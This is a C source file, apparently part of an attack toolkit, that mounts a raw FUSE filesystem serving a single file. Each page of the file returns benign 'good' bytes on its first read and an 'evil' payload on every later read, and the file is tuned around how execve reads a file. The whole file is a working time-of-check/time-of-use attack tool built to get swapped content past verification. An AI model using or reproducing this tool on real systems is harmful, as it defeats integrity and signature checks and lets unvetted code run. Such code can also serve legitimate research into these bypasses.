/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A FUSE file system without libfuse: one directory with one file, f. Each
 * page of f reads as the good file until it has been read once, and as the
 * evil one from then on; without a good file it is evil at once.
 *
 *	serve-fuse MOUNTPOINT EVIL [GOOD]
 */
#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_FILE (1 << 20)
#define FILE_NODE 2

static unsigned char good[MAX_FILE], evil[MAX_FILE], seen[MAX_FILE / PAGE];
static size_t size;
static int has_good;

static ssize_t slurp(const char *path, unsigned char *into)
{
	int fd = open(path, O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, into, MAX_FILE);
	close(fd);
	return n;
}

static void reply(int fd, uint64_t unique, int error, const void *data, size_t len)
{
	static char out[sizeof(struct fuse_out_header) + MAX_FILE];
	struct fuse_out_header h = { .len = sizeof(h) + len, .error = -error, .unique = unique };
	memcpy(out, &h, sizeof(h));
	memcpy(out + sizeof(h), data, len);
	if (write(fd, out, h.len) < 0)
		fprintf(stderr, "reply: %s\n", strerror(errno));
}

static struct fuse_attr attributes(uint64_t node)
{
	struct fuse_attr a = { .ino = node, .nlink = 1, .mode = S_IFDIR | 0755, .blksize = PAGE };
	if (node == FILE_NODE) {
		a.mode = S_IFREG | 0755;
		a.size = size;
		a.blocks = size / 512 + 1;
	}
	return a;
}

static void serve_read(int fd, struct fuse_in_header *h, struct fuse_read_in *r)
{
	static unsigned char page[MAX_FILE];
	if (r->offset >= size) {
		reply(fd, h->unique, 0, NULL, 0);
		return;
	}
	size_t n = r->size < size - r->offset ? r->size : size - r->offset;
	for (size_t i = 0; i < n; i++) {
		size_t at = r->offset + i;
		page[i] = has_good && !seen[at / PAGE] ? good[at] : evil[at];
	}
	/* a short look at the head, as execve takes, does not use the page up */
	for (size_t at = r->offset / PAGE; n >= PAGE && at <= (r->offset + n - 1) / PAGE; at++)
		seen[at] = 1;
	reply(fd, h->unique, 0, page, n);
}

static void serve_one(int fd, struct fuse_in_header *h, void *body)
{
	struct fuse_init_out init = { .major = 7, .minor = 31, .max_write = 65536, .max_readahead = 0 };
	struct fuse_entry_out entry = { .nodeid = FILE_NODE, .attr = attributes(FILE_NODE) };
	struct fuse_attr_out attr = { .attr = attributes(h->nodeid) };
	/* direct: each read(2) comes to us; mapped pages are dropped at each open */
	struct fuse_open_out opened = { .open_flags = h->nodeid == FILE_NODE && has_good ? FOPEN_DIRECT_IO : 0 };
	switch (h->opcode) {
	case FUSE_INIT:
		reply(fd, h->unique, 0, &init, sizeof(init));
		return;
	case FUSE_LOOKUP:
		if (strcmp(body, "f"))
			reply(fd, h->unique, ENOENT, NULL, 0);
		else
			reply(fd, h->unique, 0, &entry, sizeof(entry));
		return;
	case FUSE_GETATTR:
		reply(fd, h->unique, 0, &attr, sizeof(attr));
		return;
	case FUSE_OPEN:
	case FUSE_OPENDIR:
		reply(fd, h->unique, 0, &opened, sizeof(opened));
		return;
	case FUSE_READ:
		serve_read(fd, h, body);
		return;
	case FUSE_RELEASE:
	case FUSE_RELEASEDIR:
	case FUSE_FLUSH:
	case FUSE_ACCESS:
		reply(fd, h->unique, 0, NULL, 0);
		return;
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
	case FUSE_INTERRUPT:
		return; /* no answer is expected */
	default:
		reply(fd, h->unique, ENOSYS, NULL, 0);
	}
}

int serve_fuse(char **a)
{
	static char in[MAX_FILE + PAGE];
	char options[128];
	ssize_t e = slurp(a[1], evil), g = a[2] ? slurp(a[2], good) : 0;
	if (e <= 0 || g < 0)
		return failed("payload");
	has_good = g > 0;
	size = e > g ? e : g;
	int fd = open("/dev/fuse", O_RDWR);
	if (fd < 0)
		return failed("/dev/fuse");
	snprintf(options, sizeof(options), "fd=%d,rootmode=40755,user_id=%d,group_id=%d", fd, getuid(), getgid());
	if (mount("attack", a[0], "fuse", MS_NOSUID | MS_NODEV, options))
		return failed("mount");
	for (;;) {
		ssize_t n = read(fd, in, sizeof(in));
		if (n < 0 && (errno == EINTR || errno == ENOENT || errno == EAGAIN))
			continue;
		if (n < (ssize_t)sizeof(struct fuse_in_header))
			return 0; /* unmounted */
		serve_one(fd, (void *)in, in + sizeof(struct fuse_in_header));
	}
}
